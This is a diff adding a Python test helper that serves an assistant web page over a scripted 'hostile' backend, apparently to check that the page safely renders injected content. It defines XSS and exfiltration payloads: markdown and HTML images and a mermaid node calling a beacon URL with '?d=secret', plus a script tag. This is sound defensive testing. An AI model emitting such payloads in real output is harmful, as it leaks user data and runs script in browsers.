@@ -1,0 +1,52 @@
+"""Run by the browser test as a process: the page over a scripted, hostile desk."""
+
+import importlib.util
+import sys
+import time
+from collections.abc import Iterator
+from dataclasses import replace
+from pathlib import Path
+
+from assistant.config import load_settings
+from assistant.models import AnswerReady, Event, TextDelta
+from assistant.serving import desk, launching
+
+# tests/ is no package, so the desk of conftest.py is loaded from its file.
+spec = importlib.util.spec_from_file_location(
+    "scripted", Path(__file__).with_name("conftest.py")
+)
+assert spec is not None
+assert spec.loader is not None
+scripted = importlib.util.module_from_spec(spec)
+sys.modules["scripted"] = scripted
+spec.loader.exec_module(scripted)
+
+BEACON = "http://127.0.0.2:9/?d=secret"
+LIVE = (
+    f"![x]({BEACON}) <img src='{BEACON}'> <script>document.title='owned'</script> "
+    f"[x]({BEACON})\n\n```mermaid\nA@{{ img: '{BEACON}' }}\n```\n"
+)
+hostile = replace(
+    scripted.ARTICLE, id="a2", title=LIVE, outlet=LIVE, text=f"{LIVE}{scripted.TEXT}"
+)
+
+
+def script(question: str) -> Iterator[Event]:
+    if "slowly" in question:
+        for number in range(200):
+            yield TextDelta(text=f"Sentence {number}. ")
+            time.sleep(0.2)
+    if "attack" in question:
+        citation = scripted.cite(hostile, scripted.QUOTE, 1)
+        text = f"{LIVE} It says so [1]."
+        yield scripted.evidence_for(LIVE, hostile)
+        yield TextDelta(text=text, citations=(citation,))
+        yield AnswerReady(
+            answer=scripted.answer_to(LIVE, text=text, citations=(citation,))
+        )
+    yield from scripted.events_for(scripted.answer_to(question))
+
+
+the_desk = scripted.ScriptedDesk(script=script, stored=[scripted.ARTICLE, hostile])
+setattr(desk, "open_desk", lambda: the_desk)  # noqa: B010 - its type is a cache's
+sys.exit(launching.launch(load_settings(), port=int(sys.argv[1]), open_browser=False))
